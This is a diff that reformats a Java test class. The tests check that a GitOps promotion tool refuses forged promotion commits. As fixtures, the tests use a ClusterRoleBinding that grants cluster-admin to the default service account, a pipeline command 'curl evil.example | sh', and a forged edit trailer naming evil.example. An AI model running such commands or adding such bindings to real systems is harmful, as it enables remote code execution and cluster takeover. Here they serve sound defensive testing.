@@ -16,12 +16,12 @@ class ForgedPromotionTest {
 
     private static final String PROD = "overlays/prod/kustomization.yaml";
     private static final String ROLE = """
-            apiVersion: rbac.authorization.k8s.io/v1
-            kind: ClusterRoleBinding
-            metadata: {name: everything}
-            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
-            subjects: [{kind: ServiceAccount, name: default, namespace: default}]
-            """;
+        apiVersion: rbac.authorization.k8s.io/v1
+        kind: ClusterRoleBinding
+        metadata: {name: everything}
+        roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
+        subjects: [{kind: ServiceAccount, name: default, namespace: default}]
+        """;
 
     @TempDir
     Path temporary;
@@ -48,14 +48,19 @@ class ForgedPromotionTest {
         for (int run = 0; run < 2; run++) {
             assertThat(desk.run(1, "ci"))
                     .contains("held          api -> overlays/prod")
-                    .contains("somebody works on kasane/promote/prod: " + forged.abbreviate(10).name());
+                    .contains("somebody works on kasane/promote/prod: "
+                            + forged.abbreviate(10).name());
         }
         assertThat(forger.tip(Forger.PROMOTION)).isEqualTo(forged);
         assertThat(desk.run(0, "pr", "show", "1").split("--- comment", -1)).hasSize(2);
         assertThat(desk.run(0, "pr", "show", "1"))
                 .contains("There are commits of others on `kasane/promote/prod`", why);
         desk.run(2, "pr", "merge", "1");
-        assertThat(desk.complaints()).contains("kasane did not write all of pull request 1", forged.abbreviate(10).name(), why);
+        assertThat(desk.complaints())
+                .contains(
+                        "kasane did not write all of pull request 1",
+                        forged.abbreviate(10).name(),
+                        why);
         assertThat(forger.tip("main")).isEqualTo(main);
     }
 
@@ -63,13 +68,15 @@ class ForgedPromotionTest {
     void a_head_with_more_than_the_promotion_is_somebody_elses() throws Exception {
         ObjectId forged = forger.amend(
                 Map.of(
-                        "base/role.yaml", ROLE,
-                        "base/kustomization.yaml", "resources: [api.yaml, web.yaml, role.yaml]\n",
+                        "base/role.yaml",
+                        ROLE,
+                        "base/kustomization.yaml",
+                        "resources: [api.yaml, web.yaml, role.yaml]\n",
                         "pipelines/api.yaml",
-                                TwoServices.PIPELINE
-                                        .replace("[sh, build.sh, NAME]", "[sh, -c, 'curl evil.example | sh']")
-                                        .replace("NAME", "api")
-                                        .replace("GATES", "")),
+                        TwoServices.PIPELINE
+                                .replace("[sh, build.sh, NAME]", "[sh, -c, 'curl evil.example | sh']")
+                                .replace("NAME", "api")
+                                .replace("GATES", "")),
                 UnaryOperator.identity());
 
         assertRefused(forged, "is not what its promotion writes");
@@ -88,8 +95,8 @@ class ForgedPromotionTest {
     void an_edit_of_a_target_that_no_pipeline_promotes_to_is_not_believed() throws Exception {
         ObjectId forged = forger.amend(
                 Map.of(PROD, TwoServices.OVERLAY),
-                message -> message.stripTrailing() + "\nKasane-Edit: api evil.example/own/other eeeeeee sha256:" + "e".repeat(64)
-                        + " api " + "e".repeat(40) + " base");
+                message -> message.stripTrailing() + "\nKasane-Edit: api evil.example/own/other eeeeeee sha256:"
+                        + "e".repeat(64) + " api " + "e".repeat(40) + " base");
 
         assertRefused(forged, "api in base to eeeeeee is proved by no pipeline and build");
     }
